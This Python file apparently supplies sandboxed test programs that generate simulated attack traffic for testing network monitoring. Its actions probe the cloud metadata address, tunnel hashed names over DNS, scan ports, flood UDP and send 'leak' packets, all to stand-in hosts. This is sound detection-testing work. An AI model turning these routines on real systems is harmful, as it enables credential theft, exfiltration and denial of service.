"""Programs of the attack day, inside the sandboxes: each does one thing, and reports what it did.

Run as a program, this file does what its first argument names. It then writes one JSON object: its
pid, the number of its packets, and the times of the first and of the last one. It needs only the
standard library, since it runs as a user without access to the tests.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import socket
import struct
import sys
import time
import urllib.request
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Iterator

INTERNET: Final = "203.0.113.7"
METADATA: Final = "169.254.169.254"
PROXY: Final = "http://10.200.0.1:3128"
FLOOD: Final = 6000
DOMAIN: Final = "t.example.com"
NAMES: Final = 300
LEAKS: Final = 15
REQUESTS: Final = 20
#: Ports of each process of the scan.
PORTS_OF_ONE: Final = 2
FIRST_PORT: Final = 8000


def _connect(address: str, port: int) -> int:
    with socket.socket() as sock, contextlib.suppress(ConnectionRefusedError):
        sock.connect((address, port))
    return 1


def _query(name: str) -> bytes:
    """Return a DNS query for the TXT records of a name."""
    labels = b"".join(bytes((len(each),)) + each.encode() for each in name.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 16, 1)


def _resolve(*names: str) -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for name in names:
            with contextlib.suppress(OSError):
                sock.sendto(_query(name), (INTERNET, 53))
    return len(names)


def tunnel_names() -> list[str]:
    """Return the names that carry data."""
    return [
        f"{hashlib.sha256(b'%d' % number).hexdigest()[:50]}.{DOMAIN}" for number in range(NAMES)
    ]


def _steal() -> int:
    return sum(_connect(METADATA, 80) for _ in range(3))


def _tunnel() -> int:
    return _resolve(*tunnel_names())


def _scan(number: str) -> int:
    first = FIRST_PORT + PORTS_OF_ONE * int(number)
    return sum(_connect(INTERNET, port) for port in range(first, first + PORTS_OF_ONE))


def _flood() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(FLOOD):
            with contextlib.suppress(OSError):
                sock.sendto(b"flood", (INTERNET, 443))
            if number % 10 == 0:
                time.sleep(0.01)
    return FLOOD


def _leak() -> int:
    for _ in range(LEAKS):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"leak", (INTERNET, 8443))
    return LEAKS


def _work() -> int:
    """Use the proxy as intended; some lookups and connections do not, as in many programs."""
    through = urllib.request.build_opener(urllib.request.ProxyHandler({"http": PROXY}))
    for number in range(REQUESTS):
        with through.open(f"http://example.org/{number}") as page:
            page.read()
    return _resolve("example.org", "pypi.example.org", "cdn.example.net") + _single()


def _single() -> int:
    return _connect(INTERNET, 443)


def _actions() -> Iterator[tuple[str, object]]:
    for function in (_steal, _tunnel, _scan, _flood, _leak, _work, _single):
        yield function.__name__[1:], function


if __name__ == "__main__":
    _name, *_arguments = sys.argv[1:]
    _begun = time.time_ns()
    _packets = dict(_actions())[_name](*_arguments)  # type: ignore[operator]
    _done = {"pid": os.getpid(), "packets": _packets, "begun": _begun, "ended": time.time_ns()}
    sys.stdout.write(json.dumps(_done))
